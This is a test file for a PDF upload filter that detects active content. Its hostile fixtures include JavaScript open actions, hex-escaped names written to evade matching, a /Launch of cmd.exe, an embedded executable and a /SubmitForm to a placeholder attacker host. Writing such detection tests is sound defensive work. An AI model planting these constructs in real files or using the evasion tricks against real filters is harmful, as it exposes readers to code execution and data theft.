import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { pdfHasActiveContent } from '#server/domains/file/pdf-active-content';
import { checkUpload } from '#server/domains/file/sniff';
import { craftPdf, objectStream, stream } from '../helpers/pdf-craft';

/** The security review: a PDF with /JavaScript passed the upload filter. */

const hostile: [string, Buffer][] = [
  ['/OpenAction with a JavaScript action', craftPdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'])],
  ['/JS as a reference to a script stream', craftPdf(['<< /Type /Catalog /Names << /JavaScript 3 0 R >> >>', '<< /Type /Pages /Kids [] /Count 0 >>', '<< /S /JavaScript /JS 4 0 R >>'])],
  ['hex-escaped /J#61vaScript', craftPdf(['<< /Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >>'])],
  ['fully hex-escaped /#4A#53', craftPdf(['<< /Type /Catalog /OpenAction 3 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>', '<< /S /Foo /#4A#53 (x) >>'])],
  ['/Launch action', craftPdf(['<< /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >>'])],
  ['/AA additional actions on a page', craftPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>'])],
  ['an embedded file', craftPdf(['<< /Type /Catalog /Names << /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >> >>'])],
  ['/SubmitForm', craftPdf(['<< /Type /Catalog /OpenAction << /S /SubmitForm /F (https://evil.example) >> >>'])],
  ['JavaScript inside a compressed object stream', craftPdf(['<< /Type /Catalog /OpenAction 3 0 R >>', objectStream('3 0 << /S /JavaScript /JS (app.alert(1)) >>')])],
  ['an object stream in a filter we do not read', craftPdf(['<< /Type /Catalog >>', stream('/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', Buffer.from('3C3C3E3E>'))])],
  ['an object stream with a filter chain', craftPdf(['<< /Type /Catalog >>', stream('/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /ASCII85Decode]', deflateSync('<~~>'))])],
  ['an object stream that is not really Flate', craftPdf(['<< /Type /Catalog >>', stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.from('not deflated'))])],
];

const benign: [string, Buffer][] = [
  ['a plain catalog', craftPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'])],
  ['/OpenAction to a page (GoTo)', craftPdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R >>'])],
  ['an image stream whose bytes happen to spell /JS', craftPdf(['<< /Type /Catalog >>', stream('/Type /XObject /Subtype /Image /Filter /DCTDecode', Buffer.from('\u00ff\u00d8 /JS /AA /Launch \u00ff\u00d9', 'latin1'))])],
  ['a clean compressed object stream', craftPdf(['<< /Type /Catalog /Pages 3 0 R >>', objectStream('3 0 << /Type /Pages /Kids [] /Count 0 >>')])],
  ['names that only start like active ones', craftPdf(['<< /Type /Catalog /JSON 1 /AAA 2 /Launcher 3 >>'])],
];

describe('PDF active content', () => {
  it.each(hostile)('refuses %s', (_name, pdf) => {
    expect(pdfHasActiveContent(pdf)).toBe(true);
    expect(checkUpload('contract.pdf', pdf)).toEqual({ ok: false, reason: 'activePdf' });
  });

  it.each(benign)('accepts %s', (_name, pdf) => {
    expect(pdfHasActiveContent(pdf)).toBe(false);
    expect(checkUpload('contract.pdf', pdf)).toEqual({ ok: true, kind: 'pdf', ext: 'pdf' });
  });
});
